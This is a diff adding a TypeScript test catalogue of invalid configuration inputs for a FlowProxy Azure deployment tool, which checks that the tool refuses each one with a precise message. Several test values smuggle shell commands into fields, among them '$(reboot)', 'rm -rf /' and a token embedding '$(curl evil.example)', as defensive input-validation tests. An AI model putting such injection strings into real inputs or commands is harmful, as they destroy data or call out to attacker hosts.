@@ -1,0 +1,244 @@
+// The catalogue of bad inputs the program must refuse, each with the message it must give. Shared by
+// the unit tests and the reliability report, so both prove the same list.
+import * as fs from "fs";
+import * as path from "path";
+import type { RenderRequest } from "./render-stack";
+import { REPO_ROOT, copyProject, runRenderAsync, validRequest } from "./stack";
+
+export interface BadConfig {
+  title: string;
+  request?: RenderRequest;
+  /** A project file replaced (or removed, with null) in a copy of the project. */
+  file?: { name: string; content: string | null };
+  expected: RegExp[];
+}
+
+export interface Refusal {
+  status: number;
+  stdout: string;
+  stderr: string;
+}
+
+const P = "flowproxy-staging";
+const env = fs.readFileSync(path.join(REPO_ROOT, "flowproxy.env"), "utf8");
+const east = { name: "east", location: "eastus", vnetCidr: "10.10.0.0/16", subnetCidr: "10.10.1.0/24" };
+const west = { name: "west", location: "westeurope", vnetCidr: "10.20.0.0/16", subnetCidr: "10.20.1.0/24" };
+const regions = (entries: object[]) => JSON.stringify(entries);
+
+function inPlainText(overrides: Record<string, string>, plainKey: string): RenderRequest {
+  const request = validRequest(overrides);
+  return { ...request, secretKeys: request.secretKeys!.filter((k) => k !== plainKey) };
+}
+
+const missing = ["adminUsername", "sshPublicKey", "flowProxyArtifact", "githubToken", "haProxyVersion"].map(
+  (key): BadConfig => ({
+    title: `a missing ${key} is named with the command that sets it`,
+    request: validRequest({ [key]: undefined }),
+    expected: [new RegExp(`${P}:${key} is required but not set\\. Example: pulumi config set`)],
+  }),
+);
+
+const plainSecrets: BadConfig[] = [
+  ["sshPublicKey", {}],
+  ["githubToken", {}],
+  ["tailscaleAuthKey", { tailscaleAuthKey: "tskey-auth-abc123" }],
+  ["clickhousePassword", { clickhouseUsername: "fp", clickhousePassword: "hunter2hunter2" }],
+].map(([key, overrides]) => ({
+  title: `${key} in plain text is refused`,
+  request: inPlainText(overrides as Record<string, string>, key as string),
+  expected: [new RegExp(`${P}:${key} is stored in plain text but must be a secret.*pulumi config set --secret ${P}:${key}`)],
+}));
+
+export const BAD_CONFIGS: BadConfig[] = [
+  ...missing,
+  ...plainSecrets,
+  {
+    title: "an SSH key with a damaged body is refused",
+    request: validRequest({ sshPublicKey: "ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQ me@host" }),
+    expected: [/sshPublicKey has a key body that is not a ssh-ed25519 key/],
+  },
+  {
+    title: "a private key pasted into sshPublicKey is refused",
+    request: validRequest({ sshPublicKey: "-----BEGIN OPENSSH PRIVATE KEY-----" }),
+    expected: [/sshPublicKey does not start with a supported key type/],
+  },
+  {
+    title: "a CIDR with a prefix over 32 is refused",
+    request: validRequest({ allowedSshCidr: "10.0.0.0/33" }),
+    expected: [/allowedSshCidr "10\.0\.0\.0\/33" has an invalid prefix length/],
+  },
+  {
+    title: "a CIDR with host bits set names the network meant",
+    request: validRequest({ allowedSshCidr: "198.51.100.7/24" }),
+    expected: [/has host bits set; the network is 198\.51\.100\.0\/24/],
+  },
+  {
+    title: "an artifact URL that is not a GitHub Actions artifact is refused",
+    request: validRequest({ flowProxyArtifact: "https://example.com/flowproxy.zip" }),
+    expected: [/flowProxyArtifact "https:\/\/example\.com\/flowproxy\.zip" is not a GitHub Actions artifact URL/],
+  },
+  {
+    title: "an image tag with a malformed digest is refused",
+    request: validRequest({ haProxyVersion: "3.0.6@sha256:abc" }),
+    expected: [/haProxyVersion "3\.0\.6@sha256:abc" is not a Docker image tag/],
+  },
+  {
+    title: "an image tag with shell syntax is refused",
+    request: validRequest({ haProxyVersion: "3.0.6; reboot" }),
+    expected: [/haProxyVersion "3\.0\.6; reboot" is not a Docker image tag/],
+  },
+  {
+    title: "a user name with command substitution is refused",
+    request: validRequest({ adminUsername: "$(reboot)" }),
+    expected: [/adminUsername "\$\(reboot\)" is not a valid Linux user name/],
+  },
+  {
+    title: "a user name Azure reserves is refused",
+    request: validRequest({ adminUsername: "root" }),
+    expected: [/adminUsername "root" is reserved by Azure/],
+  },
+  {
+    title: "a value with a newline is refused",
+    request: validRequest({ allowedSshCidr: "10.0.0.0/8\nrm -rf /" }),
+    expected: [/allowedSshCidr contains a newline or control character/],
+  },
+  {
+    title: "a GitHub token with a quote and command substitution is refused",
+    request: validRequest({ githubToken: "ghp_abc'$(curl evil.example)'0123456789" }),
+    expected: [/githubToken does not look like a GitHub token/],
+  },
+  {
+    title: "a Tailscale key with backticks is refused",
+    request: validRequest({ tailscaleAuthKey: "tskey-`id`" }),
+    expected: [/tailscaleAuthKey is not a Tailscale auth key/],
+  },
+  {
+    title: "a ClickHouse user with a quote is refused",
+    request: validRequest({ clickhouseUsername: "fp'; rm -rf /", clickhousePassword: "pw" }),
+    expected: [/clickhouseUsername may only hold letters, digits and _ \. @ -/],
+  },
+  {
+    title: "a flowProxySha256 of the wrong length is refused",
+    request: validRequest({ flowProxySha256: "abc123" }),
+    expected: [/flowProxySha256 is not 64 hexadecimal digits/],
+  },
+  {
+    title: "a VM size with shell syntax is refused",
+    request: validRequest({ vmSize: "Standard_B2s $(id)" }),
+    expected: [/vmSize "Standard_B2s \$\(id\)" is not an Azure VM size/],
+  },
+  {
+    title: "an unknown signerKeySource is refused",
+    request: validRequest({ signerKeySource: "hsm" }),
+    expected: [/signerKeySource "hsm" must be "stack" or "vm"/],
+  },
+  {
+    title: "a ClickHouse user without a password is refused",
+    request: validRequest({ clickhouseUsername: "fp" }),
+    expected: [/clickhousePassword must be set together with clickhouseUsername/],
+  },
+  {
+    title: "overlapping VNets are refused",
+    request: validRequest({ regions: regions([east, { name: "west", location: "westeurope", vnetCidr: "10.10.128.0/17", subnetCidr: "10.10.200.0/24" }]) }),
+    expected: [/regions entry 2: vnetCidr "10\.10\.128\.0\/17" overlaps the vnetCidr of entry 1/],
+  },
+  {
+    title: "a subnet outside its VNet is refused",
+    request: validRequest({ regions: regions([{ ...east, subnetCidr: "10.11.1.0/24" }]) }),
+    expected: [/regions entry 1: subnetCidr "10\.11\.1\.0\/24" is not inside vnetCidr "10\.10\.0\.0\/16"/],
+  },
+  {
+    title: "a region table of the wrong type is refused",
+    request: validRequest({ regions: "42" }),
+    expected: [/regions must be a non-empty list/],
+  },
+  {
+    title: "a region table that is not JSON is refused",
+    request: validRequest({ regions: "[{name: east" }),
+    expected: [/regions is not valid JSON/],
+  },
+  {
+    title: "a region entry without its CIDRs is refused",
+    request: validRequest({ regions: regions([{ name: "east", location: "eastus" }]) }),
+    expected: [/regions entry 1 lacks vnetCidr, subnetCidr/],
+  },
+  {
+    title: "a region location with command substitution is refused",
+    request: validRequest({ regions: regions([east, { ...west, location: "$(reboot)" }]) }),
+    expected: [/regions entry 2: location "\$\(reboot\)" is not an Azure region name/],
+  },
+  {
+    title: "two regions in one location are refused",
+    request: validRequest({ regions: regions([east, { ...west, location: "eastus" }]) }),
+    expected: [/regions entry 2: location "eastus" is used twice/],
+  },
+  {
+    title: "all problems are reported together",
+    request: validRequest({ adminUsername: undefined, haProxyVersion: "bad tag" }),
+    expected: [/2 problems/, /adminUsername is required/, /haProxyVersion "bad tag"/],
+  },
+  {
+    title: "a missing haproxy.cfg is named",
+    file: { name: "haproxy.cfg", content: null },
+    expected: [/haproxy\.cfg is missing from .*git checkout -- 'haproxy\.cfg'/],
+  },
+  {
+    title: "an empty flowproxy.env is named",
+    file: { name: "flowproxy.env", content: "\n" },
+    expected: [/flowproxy\.env is empty/],
+  },
+  {
+    title: "a missing flowproxy@.service is named",
+    file: { name: "flowproxy@.service", content: null },
+    expected: [/flowproxy@\.service is missing/],
+  },
+  {
+    title: "flowproxy.env may not set the signer key",
+    file: { name: "flowproxy.env", content: `${env}FLASHBOTS_ORDERFLOW_SIGNER=0x${"11".repeat(32)}\n` },
+    expected: [/flowproxy\.env line \d+ sets FLASHBOTS_ORDERFLOW_SIGNER, which the program sets itself/],
+  },
+  {
+    title: "flowproxy.env may not set the node name",
+    file: { name: "flowproxy.env", content: `${env}BUILDERNET_NODE_NAME=vm-eastus\n` },
+    expected: [/flowproxy\.env line \d+ sets BUILDERNET_NODE_NAME, which the program sets itself/],
+  },
+  {
+    title: "flowproxy.env may not hold a secret",
+    file: { name: "flowproxy.env", content: `${env}CLICKHOUSE_PASSWORD=hunter2\n` },
+    expected: [/sets CLICKHOUSE_PASSWORD, which the program sets itself.*pulumi config set --secret/],
+  },
+  {
+    title: "flowproxy.env may not hold a value with command substitution",
+    file: { name: "flowproxy.env", content: `${env}RUST_BACKTRACE=$(id)\n` },
+    expected: [/the value of RUST_BACKTRACE has quotes, a backslash, \$ or a backtick/],
+  },
+  {
+    title: "flowproxy.env must set the listen addresses FlowProxy requires",
+    file: { name: "flowproxy.env", content: env.replace(/^USER_LISTEN_ADDR=.*\n/m, "") },
+    expected: [/flowproxy\.env does not set USER_LISTEN_ADDR/],
+  },
+];
+
+/** Runs the program on a bad input; a file edit happens in a throwaway copy of the project. */
+export async function tryBadConfig(bad: BadConfig): Promise<Refusal> {
+  if (!bad.file) return runRenderAsync(bad.request ?? validRequest());
+  const dir = copyProject();
+  try {
+    const target = path.join(dir, bad.file.name);
+    if (bad.file.content === null) fs.rmSync(target);
+    else fs.writeFileSync(target, bad.file.content);
+    return await runRenderAsync({ ...(bad.request ?? validRequest()), projectDir: dir });
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+/** What is wrong with how the program refused, or undefined when it refused as it must. */
+export function judgeRefusal(bad: BadConfig, outcome: Refusal): string | undefined {
+  if (outcome.status !== 1) return `exit status ${outcome.status}, not 1`;
+  if (outcome.stdout !== "") return "the program declared resources anyway";
+  if (/^\s+at .+:\d+:\d+\)?$/m.test(outcome.stderr)) return "the message carries a stack trace";
+  const unmatched = bad.expected.filter((pattern) => !pattern.test(outcome.stderr));
+  if (unmatched.length > 0) return `the message does not say ${unmatched.join(", ")}:\n${outcome.stderr}`;
+  return undefined;
+}
